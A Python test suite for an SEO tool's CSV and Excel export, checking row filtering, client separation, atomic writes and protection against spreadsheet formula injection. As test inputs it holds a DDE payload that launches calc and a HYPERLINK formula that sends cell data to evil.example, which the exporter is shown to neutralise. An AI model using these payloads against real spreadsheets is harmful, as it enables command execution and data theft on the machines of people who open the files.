"""What leaves for other tools: the rows that may, as they were published, and nothing that a spreadsheet computes."""

from __future__ import annotations

import csv
import os
import re
import string
import unicodedata
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from pipelines.cli import app
from pipelines.forgetting import Forgotten, forget_client
from pipelines.handover import files
from pipelines.handover.cells import LONGEST_CELL, safe_text, shortened
from pipelines.handover.files import TABLES, HandedOver, query, write_hand_over
from pipelines.report.pages import write_reports
from tests.published_made import FIRST_DAY, Tables, published_file, small_panel
from warehouse.connections import connect
from warehouse.layout import Workspace

LAST_DAY = FIRST_DAY + timedelta(days=75)
TODAY = {"client_id": "acme", "refreshed_on": LAST_DAY}
SIGNS = "=+-@"


def hand_over(home: Path, tables: Tables, client_id: str = "acme") -> tuple[Workspace, HandedOver]:
    workspace = Workspace(home)
    database = workspace.client_database(client_id)
    database.parent.mkdir(parents=True, exist_ok=True)
    database.unlink(missing_ok=True)
    published_file(database, tables)
    with connect(None, workspace) as connection:
        return workspace, write_hand_over(connection, workspace, client_id)


def csv_rows(path: Path, delimiter: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=delimiter))


def csv_dicts(workspace: Workspace, name: str, client_id: str = "acme") -> list[dict[str, str]]:
    columns, *rows = csv_rows(workspace.hand_over(client_id) / f"{name}.csv")
    return [dict(zip(columns, row, strict=True)) for row in rows]


def workbook(workspace: Workspace, client_id: str = "acme") -> Any:
    return openpyxl.load_workbook(workspace.hand_over(client_id) / f"{client_id}.xlsx")


def as_text(value: Any) -> str:
    """How a value of a query, or of a cell of a workbook, stands in a CSV file."""
    if isinstance(value, bool):
        return str(value).lower()
    return str(value.date() if isinstance(value, datetime) else "" if value is None else value)


def full_panel() -> Tables:
    """Two refreshes; in the second some of everything that is handed over, and of what is not."""
    tables = small_panel(refreshes=2, open_gaps=5)
    best, second, third, blocked, skipped = tables["opportunities"]
    best |= {"traffic": 1200, "relevance": 0.75, "competitors_linked": 2, "outreach_status": "contacted"}
    second |= {"authority": None, "best_target_url": None, "anchor": None, "points_traffic": -1.5}
    third |= {"anchor": "two\r\nlines", "tactic_reason": "=cmd|'/c calc'!A1"}
    blocked |= {"rank": None, "outreach_status": "do_not_contact"}
    skipped |= {"rank": None, "tactic": "skip"}
    # an earlier refresh had other opportunities
    tables["opportunities"].append(best | {"refreshed_on": FIRST_DAY, "referring_domain": "earlier.com"})
    tables["referring_domains"][0] |= {"authority_provider": "ahrefs", "country": "us", "language": "en"}
    log = TODAY | {"referring_domain": "gap-1.com", "file_id": "o", "outreach_status": "contacted"}
    tables["outreach_log"] = [
        log | {"row_number": 1, "logged_on": date(2026, 2, 1), "owner": "Ben", "note": "old", "is_latest": False},
        log | {"row_number": 2, "logged_on": date(2026, 3, 6), "owner": "Ana", "note": "wrote", "is_latest": True},
        log | {"row_number": 3, "logged_on": date(2026, 3, 9), "problem": "no status", "is_latest": False},
    ]
    link = TODAY | {"site": "rival.com", "is_own_site": False, "is_live": True, "referring_domain": "gap-1.com"}
    shoes = {"target_url": "https://rival.com/shoes"}
    tables["links"] += [
        link | shoes | {"source_url": "https://www.gap-1.com/a-page", "title": "Ten shoes", "anchor": "best shoes"},
        link | shoes | {"source_url": "https://x.com/", "referring_domain": "x.com", "anchor": "best shoes"},
        # the same page, spelt otherwise
        link | {"target_url": "http://RIVAL.com/shoes#top", "source_url": "https://y.com/", "anchor": "shoes"},
        link | shoes | {"source_url": "https://z.com/", "anchor": "gone", "is_live": False},
        link | {"target_url": "https://rival.com/Shoes", "source_url": "https://z.com/", "anchor": "another page"},
    ]
    asset = TODAY | {"site": "rival.com", "is_broken": False, "is_outdated": False, "segments": ["guest_post", "other"]}
    tables["competitor_assets"] = [
        asset
        | {
            "target_url": "https://rival.com/tool",
            "content_type": "tool",
            "gap_domains": 3,
            "gap_score": 200.5,
            "cover_rank": 2,
            "cover_gap_domains": 1,
            "cover_gap_score": 70.2,
            "cover_pct": 95.0,
            "is_broken": True,
            "examples": ["https://a.com/", "https://b.com/"],
        },
        asset
        | shoes
        | {
            "content_type": "guide",
            "gap_domains": 4,
            "gap_score": 300.0,
            "cover_rank": 1,
            "cover_gap_domains": 4,
            "cover_gap_score": 300.0,
            "cover_pct": 77.0,
            "is_outdated": True,
            "outdated_evidence": "2019 is the latest year in its title",
            "examples": ["https://a.com/"],
        },
        asset | {"target_url": "https://rival.com/", "content_type": "home", "gap_domains": 5, "gap_score": 380.0},
    ]
    mention = TODAY | {"matched_term": "Acme", "matched_in": "title", "absence": "unproven", "is_domain_linking": False}
    tables["unlinked_mentions"] = [
        mention | {"source_url": "https://weak.com/", "referring_domain": "weak.com", "authority": 5.0},
        mention | {"source_url": "https://unknown.com/", "referring_domain": "unknown.com", "authority": None},
        mention
        | {"source_url": "https://top.com/", "referring_domain": "top.com", "authority": 90.0, "absence": "proven"},
        mention | {"source_url": "https://no.com/", "referring_domain": "no.com", "outreach_status": "do_not_contact"},
    ]
    lost = TODAY | {"reason": "link_removed", "is_follow": True, "is_live": False, "site": "acme.com"}
    tables["lost_links"] = [
        lost | {"rank": 2, "source_url": "https://b.com/", "referring_domain": "b.com"},
        lost | {"rank": 1, "source_url": "https://a.com/", "referring_domain": "a.com", "lost_on": date(2026, 3, 1)},
        lost | {"rank": None, "source_url": "https://no.com/", "referring_domain": "no.com"},
        lost
        | {
            "rank": 3,
            "reason": "own_page_broken",
            "source_url": "https://no.com/b",
            "referring_domain": "no.com",
            "outreach_status": "do_not_contact",
        },
    ]
    return tables


# --- what is handed over ------------------------------------------------------------------------------------------


def test_opportunities_are_ready_to_be_worked_on(tmp_path: Path) -> None:
    """Else whoever writes to a site had to look the page, the reason and the last contact up elsewhere."""
    workspace, _ = hand_over(tmp_path, full_panel())
    best, second, third = csv_dicts(workspace, "opportunities")
    assert best == {
        "rank": "1",
        "website": "gap-1.com",
        "page_url": "https://www.gap-1.com/a-page",
        "page_title": "Ten shoes",
        "anchor": "best shoes",
        "competitor_page_url": "https://rival.com/shoes",
        "competitor_sites": "rival.com, foe.org",
        "competitors_linked": "2",
        "segment": "editorial_mention",
        "tactic": "outreach",
        "why": "gap-1.com mentions them in an article.",
        "tier": "A",
        "score": "79.9",
        "top_50_pct": "100.0",
        "win_chance": "",
        "authority": "50.0",
        "authority_provider": "ahrefs",
        "traffic": "1200",
        "country": "us",
        "language": "en",
        "relevance": "0.75",
        "absence": "proven",
        "outreach_status": "contacted",
        "last_contacted_on": "2026-03-06",
        "owner": "Ana",
        "note": "wrote",
        "client_id": "acme",
        "refreshed_on": str(LAST_DAY),
        "risk": "0.0",
        "points_authority": "30.0",
        "points_relevance": "20.0",
        "points_competitors": "20.0",
        "points_traffic": "0.0",
        "points_placement": "8.0",
        "points_editorial": "2.0",
        "points_freshness": "0.0",
        "points_winnability": "0.0",
    }
    assert (second["authority"], second["competitor_page_url"], second["owner"]) == ("", "", "")
    assert second["points_traffic"] == "-1.5"
    assert (third["anchor"], third["why"]) == ("two lines", "'=cmd|'/c calc'!A1")


def test_who_is_not_to_be_contacted_and_what_is_skipped_never_leaves(tmp_path: Path) -> None:
    """Else a tool would write to somebody who asked not to be written to."""
    workspace, handed_over = hand_over(tmp_path, full_panel())
    assert [row["website"] for row in csv_dicts(workspace, "opportunities")] == ["gap-1.com", "gap-2.com", "gap-3.com"]
    sites = {cell for path in handed_over.files[1:] for row in csv_rows(path) for cell in row}
    assert not sites & {"gap-4.com", "gap-5.com", "no.com", "earlier.com"}
    cells = {cell.value for sheet in workbook(workspace) for row in sheet.iter_rows() for cell in row}
    assert not cells & {"gap-4.com", "gap-5.com", "no.com", "earlier.com"}


def test_a_rank_in_spite_of_the_word_lets_nobody_out(tmp_path: Path) -> None:
    """Else a warehouse written by another version could hand over whom nobody may contact."""
    tables = full_panel()
    for number, row in enumerate(tables["opportunities"], start=1):
        row["rank"] = number
    workspace, _ = hand_over(tmp_path, tables)
    assert [row["website"] for row in csv_dicts(workspace, "opportunities")] == ["gap-1.com", "gap-2.com", "gap-3.com"]


def test_content_briefs_come_in_the_order_to_build_them_with_running_totals(tmp_path: Path) -> None:
    """Else a team would build a page for domains that another page opens already."""
    workspace, _ = hand_over(tmp_path, full_panel())
    guide, tool = csv_dicts(workspace, "content_briefs")
    names = ("build_rank", "content_type", "newly_opened", "opened_so_far", "score_so_far", "pct_so_far", "is_broken")
    assert [guide[name] for name in names] == ["1", "guide", "4", "4", "300.0", "77.0", "false"]
    assert [tool[name] for name in names] == ["2", "tool", "1", "5", "370.2", "95.0", "true"]
    assert guide["outdated_evidence"] == "2019 is the latest year in its title"
    assert guide["anchors"] == "best shoes (2) | shoes (1)"
    assert guide["segments"] == "guest_post, other"
    assert [tool[f"example_page_{number}"] for number in (1, 2, 3)] == ["https://a.com/", "https://b.com/", ""]
    assert tool["anchors"] == ""


def test_mentions_come_by_authority_and_say_what_is_proven(tmp_path: Path) -> None:
    workspace, _ = hand_over(tmp_path, full_panel())
    rows = [(row["website"], row["authority"], row["absence"]) for row in csv_dicts(workspace, "mentions")]
    assert rows == [("top.com", "90.0", "proven"), ("weak.com", "5.0", "unproven"), ("unknown.com", "", "unproven")]


def test_lost_links_come_in_the_order_to_ask_them_back(tmp_path: Path) -> None:
    workspace, _ = hand_over(tmp_path, full_panel())
    rows = [(row["rank"], row["website"], row["lost_on"]) for row in csv_dicts(workspace, "lost_links")]
    assert rows == [("1", "a.com", "2026-03-01"), ("2", "b.com", "")]


@pytest.mark.parametrize("rows_in_memory", [0, files.ROWS_IN_MEMORY])
def test_a_file_is_what_its_query_gives(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rows_in_memory: int) -> None:
    """Else nobody could say where a number in a hand-over file comes from."""
    monkeypatch.setattr(files, "ROWS_IN_MEMORY", rows_in_memory)
    workspace, _ = hand_over(tmp_path, full_panel())
    sheets = workbook(workspace)
    assert sheets.sheetnames == [*TABLES, "about"]
    with duckdb.connect(str(workspace.client_database("acme")), read_only=True) as connection:
        for name in TABLES:
            cursor = connection.execute(query(name))
            columns = [column[0] for column in cursor.description or []]
            asked = cursor.fetchall()
            assert asked, name
            expected = [
                [safe_text(as_text(value)) if isinstance(value, str) else as_text(value) for value in row]
                for row in asked
            ]
            assert csv_rows(workspace.hand_over("acme") / f"{name}.csv") == [columns, *expected]
            header, *shown = sheets[name].iter_rows(values_only=True)
            assert list(header) == columns
            for row, values in zip(shown, asked, strict=True):
                for cell, value in zip(row, values, strict=True):
                    # a number is a number in the sheet, a day is a day, a flag a flag
                    if isinstance(value, (int, float)):
                        assert (cell, isinstance(cell, bool)) == (value, isinstance(value, bool))
                    elif isinstance(value, date):
                        assert cell.date() == value
                    else:
                        assert cell == (safe_text(value) or None if value is not None else None)


def test_a_new_component_of_the_score_comes_along(tmp_path: Path) -> None:
    """Else the points of a hand-over file would not add up to its score."""
    workspace, _ = hand_over(tmp_path, full_panel())
    with duckdb.connect(str(workspace.client_database("acme"))) as connection:
        connection.execute("alter table marts.opportunities add column points_reach double default 4.5")
    with connect(None, workspace) as connection:
        write_hand_over(connection, workspace, "acme")
    assert {row["points_reach"] for row in csv_dicts(workspace, "opportunities")} == {"4.5"}


def test_the_common_file_gives_each_client_its_own_latest_refresh(tmp_path: Path) -> None:
    """Else the documented queries would mix clients where somebody runs them on the file of all clients."""
    first, other = full_panel(), small_panel(refreshes=1, client_id="bolt")
    everything = {table: [*first.get(table, []), *other.get(table, [])] for table in first | other}
    published_file(tmp_path / "all.duckdb", everything)
    published_file(tmp_path / "acme.duckdb", first)
    with (
        duckdb.connect(str(tmp_path / "all.duckdb"), read_only=True) as common,
        duckdb.connect(str(tmp_path / "acme.duckdb"), read_only=True) as own,
    ):
        for name in TABLES:
            columns = [column[0] for column in common.execute(query(name)).description or []]
            rows = [row for row in common.fetchall() if row[columns.index("client_id")] == "acme"]
            assert rows == own.execute(query(name)).fetchall()


def test_a_client_without_anything_to_hand_over_has_files_that_say_so(tmp_path: Path) -> None:
    """Else one could not tell an empty list from one that was forgotten."""
    workspace, handed_over = hand_over(tmp_path, small_panel(open_gaps=0))
    assert [len(csv_rows(path)) for path in handed_over.files[1:]] == [1, 1, 1, 1]
    assert [sheet.max_row for sheet in workbook(workspace)] == [1, 1, 1, 1, 5]


def test_the_workbook_says_what_stayed_behind(tmp_path: Path) -> None:
    """Else rows that may not leave would be missing without a count."""
    workspace, handed_over = hand_over(tmp_path, full_panel())
    about = [row[:1] + row[3:] for row in workbook(workspace)["about"].iter_rows(min_row=2, values_only=True)]
    assert about == [
        ("opportunities", 5, 3, 3, 0),
        ("content_briefs", 3, 2, 2, 0),
        ("mentions", 4, 3, 3, 0),
        ("lost_links", 4, 2, 2, 0),
    ]
    assert handed_over.notes == ()


# --- what a spreadsheet must not do -------------------------------------------------------------------------------

NASTY = st.text(
    st.sampled_from(list("=+-@＝＋－＠;,\"'|\t\r\n\0\x0b\x1f\x7f\x85\u200b\ufeff\u2028\xa0<r>/&_x0A1é\U0001f45f"))
    | st.characters(exclude_categories=["Cs"]),
    max_size=40,
)


NASTY_COLUMNS = {
    "opportunities": ("anchor", "tactic_reason", "best_source_url", "best_target_url"),
    "outreach_log": ("note", "owner"),
    "links": ("anchor",),
    "competitor_assets": ("page_title", "outdated_evidence"),
    "unlinked_mentions": ("title", "snippet", "referring_domain"),
    "lost_links": ("anchor", "title", "source_url"),
}


@pytest.fixture(scope="module")
def nasty_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace whose texts the test of formulas writes anew."""
    home = tmp_path_factory.mktemp("nasty")
    hand_over(home, full_panel())
    return home


def begins_a_formula(cell: str) -> bool:
    """Whether a spreadsheet could compute a cell: what it may trim is trimmed, full-width signs are made narrow."""
    trimmed = cell.lstrip(string.whitespace + '"\xa0\x85\u200b\ufeff')
    return unicodedata.normalize("NFKC", trimmed[:1]) in tuple(SIGNS)


def is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


@pytest.mark.parametrize("rows_in_memory", [0, files.ROWS_IN_MEMORY])
@settings(max_examples=25, deadline=None)
@example(text='=HYPERLINK("https://evil.example/?"&A1,"open")')
@example(text=" \t\"'＝1+1")
@example(text="<r><t>markup</t></r>")
@example(text='a;=1+1;"@x;\r\n-2')
@example(text="_x003D_1+1")
@example(text="http://evil.example/" + "a" * 3000)
@given(text=NASTY)
def test_no_text_of_the_web_becomes_a_formula(nasty_home: Path, rows_in_memory: int, text: str) -> None:
    """Else a title somebody wrote could run in the spreadsheet of whoever opens the file."""
    workspace = Workspace(nasty_home)
    with duckdb.connect(str(workspace.client_database("acme"))) as connection:
        for table, columns in NASTY_COLUMNS.items():
            texts = ", ".join(f"{column} = $text" for column in columns)
            connection.execute(f"update marts.{table} set {texts}", {"text": text})
    with pytest.MonkeyPatch.context() as patch, connect(None, workspace) as connection:
        patch.setattr(files, "ROWS_IN_MEMORY", rows_in_memory)
        handed_over = write_hand_over(connection, workspace, "acme")
    for path in handed_over.files[1:]:
        width = {len(row) for row in csv_rows(path)}
        assert len(width) == 1
        # as Excel reads it, and as it does where the separator of lists is a semicolon
        for delimiter in ",;":
            cells = [cell for row in csv_rows(path, delimiter) for cell in row]
            assert [cell for cell in cells if begins_a_formula(cell) and not is_number(cell)] == []
        lines = path.read_bytes().split(b"\r\n")
        assert not any(re.search(rb"[\x00-\x1f]", line) for line in lines)
    for sheet in workbook(workspace):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert cell.hyperlink is None
                assert not (isinstance(cell.value, str) and begins_a_formula(cell.value))
    # Excel reads _x005F_ as the underscore that is no escape; openpyxl does so only of shared strings
    titles = [str(cell.value or "").replace("_x005F_x", "_x") for cell in workbook(workspace)["mentions"]["C"]]
    assert safe_text(text) in titles


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("best shoes", "best shoes"),
        ("a = b; c - d", "a = b; c - d"),
        ("https://a.com/?q=1;b=-2", "https://a.com/?q=1;b=-2"),
        ("'quoted' title", "'quoted' title"),
        ("=1+1", "'=1+1"),
        ("  @sum", "'  @sum"),
        ("\"'-1", "'\"'-1"),
        ("－1", "'－1"),
        ("\t=1", "' =1"),
        ("\r\nnew\r\nline\u2028end", " new line end"),
        ("nul\0byte", "nul byte"),
        ("one; =two", "one; '=two"),
        ("<r>", "'<r>"),
    ],
)
def test_text_changes_only_where_it_must(text: str, safe: str) -> None:
    """Else anchors and URLs would leave the warehouse other than they were delivered."""
    assert safe_text(text) == safe


def test_what_excel_cannot_hold_is_counted_and_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Else Excel would drop or spill it without a word, or the whole workbook would be missing."""
    monkeypatch.setattr(files, "MOST_SHEET_ROWS", 3)
    tables = full_panel()
    tables["opportunities"][0]["anchor"] = "=" + "\U0001f45f" * 20_000
    workspace, handed_over = hand_over(tmp_path, tables)
    assert handed_over.notes == (
        "warehouse/reports/handover/acme/opportunities.csv: 3 rows; a sheet holds 3, so the last 1 are missing from "
        "the sheet opportunities, the CSV file has all",
        "warehouse/reports/handover/acme/opportunities.csv: 1 cell cut to the 32,767 characters that Excel keeps of "
        "one; marts.opportunities has them whole",
        "warehouse/reports/handover/acme/mentions.csv: 3 rows; a sheet holds 3, so the last 1 are missing from "
        "the sheet mentions, the CSV file has all",
    )
    assert len(csv_dicts(workspace, "opportunities")) == 3
    sheets = workbook(workspace)
    assert sheets["opportunities"].max_row == 3
    cut = csv_dicts(workspace, "opportunities")[0]["anchor"]
    assert len(cut.encode("utf-16-le")) // 2 in (LONGEST_CELL - 1, LONGEST_CELL)
    assert sheets["opportunities"]["E2"].value == cut == "'=" + "\U0001f45f" * (len(cut) - 2)


def test_a_text_as_long_as_excel_takes_stays_whole() -> None:
    assert shortened("a" * LONGEST_CELL) == "a" * LONGEST_CELL
    assert len(shortened("a" * (LONGEST_CELL + 1))) == LONGEST_CELL


def test_excel_reads_a_name_in_any_script(tmp_path: Path) -> None:
    """Else it would read the file in the code page of the machine."""
    tables = full_panel()
    tables["opportunities"][0]["anchor"] = "Füße, Größe 鞋"
    workspace, _ = hand_over(tmp_path, tables)
    content = (workspace.hand_over("acme") / "opportunities.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbfrank,website")
    assert '"Füße, Größe 鞋"'.encode() in content


# --- how files are written ----------------------------------------------------------------------------------------


def test_a_file_appears_whole_or_not_at_all(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Else somebody could import half a list."""
    workspace, handed_over = hand_over(tmp_path, full_panel())
    before = {path: path.read_bytes() for path in handed_over.files}

    def fail(*_: object) -> None:
        raise OSError("no space left on device")

    with monkeypatch.context() as patch, pytest.raises(OSError, match="no space left"):
        patch.setattr(files._Sheet, "add", fail)
        hand_over(tmp_path, full_panel())
    folder = workspace.hand_over("acme")
    assert {path: path.read_bytes() for path in folder.iterdir()} == before
    assert list(workspace.temporary.iterdir()) == []


def test_the_same_tables_make_the_same_files(tmp_path: Path) -> None:
    """Else a copy of the reports would change although nothing did."""
    first = [path.read_bytes() for path in hand_over(tmp_path / "one", full_panel())[1].files]
    assert [path.read_bytes() for path in hand_over(tmp_path / "two", full_panel())[1].files] == first


def test_files_can_be_read_by_whom_the_umask_lets(tmp_path: Path) -> None:
    """Else other members of the group could not open them, or everybody could."""
    before = os.umask(0o027)
    try:
        _, handed_over = hand_over(tmp_path, full_panel())
    finally:
        os.umask(before)
    assert {path.stat().st_mode & 0o777 for path in handed_over.files} == {0o640}


@pytest.fixture
def published(tmp_path: Path) -> Workspace:
    """Two published clients."""
    workspace = Workspace(tmp_path)
    workspace.clients.mkdir(parents=True)
    first, other = full_panel(), small_panel(client_id="bolt")
    for client_id, tables in (("acme", first), ("bolt", other)):
        workspace.client_database(client_id).parent.mkdir(parents=True, exist_ok=True)
        published_file(workspace.client_database(client_id), tables)
    everything = {table: [*first.get(table, []), *other.get(table, [])] for table in first | other}
    published_file(workspace.published_database, everything)
    return workspace


def linkgap(workspace: Workspace, *arguments: str) -> Any:
    return CliRunner().invoke(app, list(arguments), env={"LINKGAP_HOME": str(workspace.home), "LINKGAP_INBOX": ""})


def test_each_client_has_its_own_rows_alone(published: Workspace) -> None:
    """Else a client would read another client's prospects."""
    write_reports(published, ["acme", "bolt"])
    for client_id in ("acme", "bolt"):
        for name in TABLES:
            assert {row["client_id"] for row in csv_dicts(published, name, client_id)} <= {client_id}
    assert len(csv_dicts(published, "opportunities", "bolt")) == 3


def test_report_names_the_files_and_the_page_links_to_them(published: Workspace) -> None:
    """Else nobody would find them."""
    outcome = linkgap(published, "report", "acme")
    folder = published.hand_over("acme")
    names = ["acme.xlsx", *(f"{name}.csv" for name in TABLES)]
    assert outcome.exit_code == 0
    assert outcome.stdout.splitlines() == [
        *(str(folder / name) for name in names),
        *(str(published.reports / page) for page in ("acme.html", "checks.html", "tables.html", "index.html")),
    ]
    page = (published.reports / "acme.html").read_text(encoding="utf-8")
    assert re.findall(r'href="(handover/[^"]*)"', page) == [f"handover/acme/{name}" for name in names]
    assert not published.hand_over("bolt").exists()


def test_a_missing_file_of_a_client_is_told_and_holds_nobody_up(published: Workspace) -> None:
    """Else one lost file would cost every other client its report."""
    published.client_database("acme").unlink()
    outcome = linkgap(published, "report")
    assert outcome.exit_code == 1
    assert outcome.stderr == (
        "linkgap: warehouse/published/clients/acme.duckdb: is missing, so acme has no hand-over files; run `linkgap "
        "rebuild`\n"
    )
    assert (published.hand_over("bolt") / "bolt.xlsx").exists()
    assert 'href="handover' not in (published.reports / "acme.html").read_text(encoding="utf-8")


def test_a_file_of_another_version_is_told_and_holds_nobody_up(published: Workspace) -> None:
    """Else the first report after an upgrade would end in an error nobody can read."""
    with duckdb.connect(str(published.client_database("acme"))) as connection:
        connection.execute("alter table marts.lost_links drop column is_domain_still_linking")
    outcome = linkgap(published, "report")
    assert outcome.exit_code == 1
    assert "acme.duckdb: was published by another version of linkgap (Binder Error" in outcome.stderr
    assert "run `linkgap rebuild`" in outcome.stderr
    assert (published.hand_over("bolt") / "bolt.xlsx").exists()
    assert list(published.hand_over("acme").iterdir()) == []


def test_a_day_before_excel_counts_days_is_a_text(tmp_path: Path) -> None:
    """Else the zero date of an export would spoil the workbook."""
    tables = full_panel()
    tables["lost_links"][1]["lost_on"] = date(1, 1, 1)
    workspace, _ = hand_over(tmp_path, tables)
    assert csv_dicts(workspace, "lost_links")[0]["lost_on"] == "0001-01-01"
    assert workbook(workspace)["lost_links"]["I2"].value == "0001-01-01"


def test_forgetting_a_client_removes_its_files(published: Workspace) -> None:
    """Else prospects of a client who left would stay on disk."""
    write_reports(published, ["acme", "bolt"])
    (published.hand_over("acme") / "opportunities.csv.partial").write_text("left by a crash", encoding="utf-8")
    forgotten = Forgotten("acme")
    forget_client(published, forgotten)
    assert "removed warehouse/reports/handover/acme: 6 files" in [removal.line for removal in forgotten.removed]
    assert [folder.name for folder in (published.reports / "handover").iterdir()] == ["bolt"]
